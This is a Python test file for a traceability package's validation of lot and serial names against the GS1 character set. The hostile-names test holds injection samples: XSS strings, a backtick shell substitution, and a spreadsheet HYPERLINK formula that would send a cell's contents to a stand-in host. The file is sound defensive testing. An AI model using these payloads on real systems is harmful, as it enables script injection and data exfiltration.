"""Lot and serial numbers: quotes, angle brackets and control characters are refused, everything
else GS1 allows in a lot (AI 10) or serial (AI 21) is kept (pure, no frappe)."""

import string

from hypothesis import given
from hypothesis import strategies as st

from dux_trace.core.names import FORBIDDEN_CHARACTERS, acceptable_name, forbidden_in_name, shown
from dux_trace.core.serials import impossible_serial

#: GS1's 82-character set (GS1 General Specifications, figure 7.11-1), allowed in AI 10 and 21
GS1_82 = string.ascii_letters + string.digits + "!\"%&'()*+,-./:;<=>?_"
GS1_KEPT = "".join(c for c in GS1_82 if c not in "\"'<>")


def test_the_names_the_tests_and_the_shops_use_pass():
	for name in (
		"LBL-452",
		"_DUX-LAIT-A",
		"YA-2611-09",
		"L2026A",
		"356938035643809",
		"SN0001",
		"A/B.C:1;2(3)*+%&!?=_,",
		"Lot été 2026",
		"ABC 123",
	):
		assert acceptable_name(name), name
		assert forbidden_in_name(name) == []


def test_hostile_names_are_refused():
	assert forbidden_in_name('X" onmouseover="alert(1)') == ['"']
	assert forbidden_in_name("<script>alert(1)</script>") == ["<", ">"]
	assert forbidden_in_name('=HYPERLINK("http://x.invalid/?"&A1,"x")') == ['"']
	assert forbidden_in_name("L'ABC") == ["'"]
	assert forbidden_in_name("`id`") == ["`"]
	assert forbidden_in_name("A\tB") == ["\t"]
	assert forbidden_in_name("A\r\nB") == ["\r", "\n"]
	assert forbidden_in_name("A\x00B\x1dC\x7f\x85") == ["\x00", "\x1d", "\x7f", "\x85"]


def test_a_refused_character_is_shown_readably():
	assert shown("\t") == "U+0009"
	assert shown("\x1d") == "U+001D"
	assert shown('"') == '"'


def test_a_serial_with_a_quote_is_no_serial_for_the_scan_rules():
	assert impossible_serial('X" onmouseover="alert(1)')
	assert impossible_serial("L'ABC")
	assert not impossible_serial("356938035643809")


@given(st.text(alphabet=GS1_KEPT, min_size=1, max_size=20))
def test_every_gs1_character_but_quotes_and_angle_brackets_is_kept(name):
	assert acceptable_name(name)


@given(
	st.text(max_size=30), st.sampled_from([*FORBIDDEN_CHARACTERS, "\t", "\r", "\n", "\x00", "\x1b", "\x9b"])
)
def test_any_name_with_a_refused_character_is_refused(text, bad):
	name = text[: len(text) // 2] + bad + text[len(text) // 2 :]
	assert not acceptable_name(name)
	assert bad in forbidden_in_name(name)


@given(st.text(max_size=40))
def test_the_refused_characters_are_exactly_quotes_angle_brackets_and_controls(name):
	import unicodedata

	expected = [c for c in dict.fromkeys(name) if c in "\"'`<>" or unicodedata.category(c) == "Cc"]
	assert forbidden_in_name(name) == expected
